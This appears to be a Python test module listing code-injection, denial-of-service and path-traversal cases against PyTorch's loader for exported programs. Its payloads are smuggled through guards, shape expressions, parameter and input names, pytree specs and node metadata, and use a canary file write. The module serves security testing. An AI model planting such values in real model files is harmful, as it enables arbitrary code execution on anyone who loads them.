"""Attacks by texts that torch evaluates or pastes into source: guards, shapes, names."""

import json
from collections.abc import Callable

from crafting import WEIGHTS, Crafted

from attacks.attack import Attack


def _guard(text: Callable[[Crafted], str]) -> Callable[[Crafted], None]:
    return lambda made: made.program.update(guards_code=[text(made)])


def _shape(text: Callable[[Crafted], str]) -> Callable[[Crafted], None]:
    return lambda made: made.shape(text(made))


def _renamed(old: str, new: Callable[[Crafted], str]) -> Callable[[Crafted], None]:
    return lambda made: made.renamed(old, new(made))


def _argument(made: Crafted) -> None:
    made.call["forward_arg_names"] = ["x", f"y={made.code()}"]


def _input(made: Crafted) -> None:
    # The last input of the graph, since its default must not precede inputs without one.
    old, inputs = "b_norm_num_batches_tracked", made.graph["inputs"]
    specs = made.program["graph_module"]["signature"]["input_specs"]
    at = next(at for at, one in enumerate(inputs) if one["as_tensor"]["name"] == old)
    for listed in (inputs, specs):
        listed.append(listed.pop(at))
    made.renamed(old, f"{old}={made.code()}")


def _opened(made: Crafted) -> str:
    """Like the code, in words that sympy knows."""
    return f"open({str(made.canary)!r}, 'w')"


def _ranges(made: Crafted) -> None:
    made.program["range_constraints"] |= {made.code(): {"min_val": 2, "max_val": None}}


def _many_symbols(made: Crafted) -> None:
    # torch counts up to the number of an unbacked symbol.
    made.program["range_constraints"] |= {"u99999999999": {"min_val": 2, "max_val": None}}


def _buffer(made: Crafted) -> None:
    made.renamed("norm.running_mean", f'norm.running" + repr({made.code()})[:0] + "_mean')


def _key(made: Crafted) -> None:
    dict_of_one = {"type": "builtins.dict", "context": json.dumps([f"k': {made.code()}, 'x"])}
    leaf = {"type": None, "context": None, "children_spec": []}
    empty = {"type": "builtins.tuple", "context": "null", "children_spec": []}
    spec = {"type": "builtins.tuple", "context": "null"}
    spec["children_spec"] = [empty, dict_of_one | {"children_spec": [leaf]}]
    made.call["in_spec"] = json.dumps([1, spec])


def _enum(made: Crafted) -> None:
    key = {"__enum__": True, "fqn": "antigravity:geohash", "name": "x"}
    made.call["out_spec"] = json.dumps(
        [1, {"type": "builtins.dict", "context": json.dumps([key]), "children_spec": []}]
    )


def _factory(made: Crafted) -> None:
    context = {"default_factory_module": "antigravity", "default_factory_name": "geohash"}
    spec = {"type": "collections.defaultdict", "context": context | {"dict_context": []}}
    made.call["out_spec"] = json.dumps([1, spec | {"children_spec": []}])


def _two_strings(made: Crafted) -> None:
    # ast sees a string that goes on in the next line, and a comment. sympy deletes the newline, so
    # that the string's first end is escaped, and the comment's text is code behind its second.
    made.shape(f"Symbol('s77\\\n' #'[:0] + repr({_opened(made)})[:0] + 's77'\n, integer=True)")


def _message(made: Crafted) -> None:
    text = {"as_string": f"'); {made.code()}; ('"}
    made.called("torch.ops.aten._assert_scalar.default", {"as_bool": True}, text)
    node = made.graph["nodes"][0]
    node["inputs"][0]["name"], node["inputs"][1]["name"] = "self", "assert_msg"


def _noted(key: str) -> Callable[[Crafted], None]:
    def change(made: Crafted) -> None:
        made.node("relu")["metadata"][key] = f"x,torch.{made.code()}"

    return change


GUARDS = [
    Attack(
        "a string in a guard, pasted into the source of a message",
        _guard(lambda made: f"""L['x'].size()[0] != '" + repr({made.code()})[:0] + "'"""),
        live=True,
    ),
    Attack(
        "a key in a guard, pasted into the source of a message",
        _guard(lambda made: f"""L['x'].size()[0] != {{'" + repr({made.code()})[:0] + "': 1}}"""),
        live=True,
    ),
    Attack("a call in a guard", _guard(lambda made: f"{made.code()} == None"), live=True),
    Attack("a guard that is no condition", _guard(lambda made: "L['x']")),
    Attack(
        "a lambda in a guard", _guard(lambda made: f"(lambda: {made.code()})() == 1"), live=True
    ),
    Attack("an f-string in a guard", _guard(lambda made: f"f'{{{made.code()}}}' == 1"), live=True),
    Attack("a walrus in a guard", _guard(lambda made: f"(y := {made.code()}) == 1"), live=True),
    Attack("an attribute in a guard", _guard(lambda made: "L['x'].__class__ == 1")),
    Attack("an argument in a guard", _guard(lambda made: f"L['x'].size({made.code()})[0] == 1")),
    Attack("a deep guard", _guard(lambda made: "(" * 5000 + "1" + ")" * 5000 + " == 1")),
    Attack("a long guard", _guard(lambda made: "1 == 1 and " * 100_000 + "1 == 1")),
    Attack("a guard with a large power", _guard(lambda made: "9 ** 9 ** 9 ** 9 == 1")),
    Attack("a guard with a newline", _guard(lambda made: f"1 == 1\n{made.code()}")),
    Attack(
        "a guard of letters that Python folds",
        _guard(lambda made: "\U0001d4db['x'].size()[0] == 1"),
    ),
]

SHAPES = [
    Attack("a call in a shape", _shape(lambda made: f"{_opened(made)}*0"), live=True),
    Attack("a shape that two parsers read in two ways", _two_strings, live=True),
    Attack(
        "a symbol whose name is code",
        _shape(lambda made: f"Symbol(repr({_opened(made)}))"),
        live=True,
    ),
    Attack("a method in a shape", _shape(lambda made: "Symbol('s77').subs(1, 2)")),
    Attack("a large power in a shape", _shape(lambda made: "Pow(Integer(9), Integer(999999999))")),
    Attack("a shape without an end", _shape(lambda made: "Add(Integer(1), ")),
    Attack("a deep shape", _shape(lambda made: "Abs(" * 5000 + "Integer(1)" + ")" * 5000)),
    Attack("a range for a symbol that is code", _ranges),
    Attack("a symbol of a large number", _many_symbols),
    Attack("a shape that is a number", _shape(lambda made: 7)),  # type: ignore[arg-type,return-value]
]

NAMES = [
    Attack("an argument with a default that is code", _argument, live=True),
    Attack(
        "a parameter's name that is code",
        _renamed("conv.weight", lambda made: f'conv.we" + repr({made.code()})[:0] + "ight'),
        live=True,
    ),
    Attack("a buffer's name that is code", _buffer, live=True),
    Attack(
        "a constant's name that is code",
        _renamed("scale", lambda made: f'sc" + repr({made.code()})[:0] + "ale'),
        live=True,
    ),
    Attack("an input's name that is code", _input, live=True),
    Attack("a value's name that is code", _renamed("relu", lambda made: f"x[{made.code()}]")),
    Attack(
        "a subgraph's name that is code", _renamed("submod_1", lambda made: f"s, {made.code()}")
    ),
    Attack("an input's key that is code", _key),
    Attack("a name of letters that Python folds", _renamed("relu", lambda made: "\uff52elu")),
    Attack("a name that is a keyword", _renamed("relu", lambda made: "lambda")),
    Attack("a name of torch's own", _renamed("relu", lambda made: "torch")),
    Attack("a dunder as a parameter", _renamed("conv.weight", lambda made: "conv.__class__")),
    Attack("a method as a parameter", _renamed("conv.weight", lambda made: "conv.forward")),
    Attack("a module's own field as a parameter", _renamed("scale", lambda made: "_modules")),
    Attack("an enumeration, whose module torch imports", _enum),
    Attack("a factory, whose module torch imports", _factory),
    Attack("code in the text of an assertion", _message, refused=False),
    Attack("code in a node's notes", _noted("torch_fn"), refused=False),
    Attack("code in the stack of a node's functions", _noted("source_fn_stack")),
    Attack("code in the stack of a node's modules", _noted("nn_module_stack")),
    Attack(
        "a tensor's file outside of its folder",
        lambda made: made.weights["config"]["conv.weight"].update(path_name="../../models/x"),
    ),
    Attack(
        "a parameter's name with an end of a line",
        _renamed("conv.weight", lambda made: "conv.weight\n"),
    ),
    Attack(
        "a list of tensors that is none",
        lambda made: made.texts.update({WEIGHTS: lambda text: "[]"}),
    ),
]
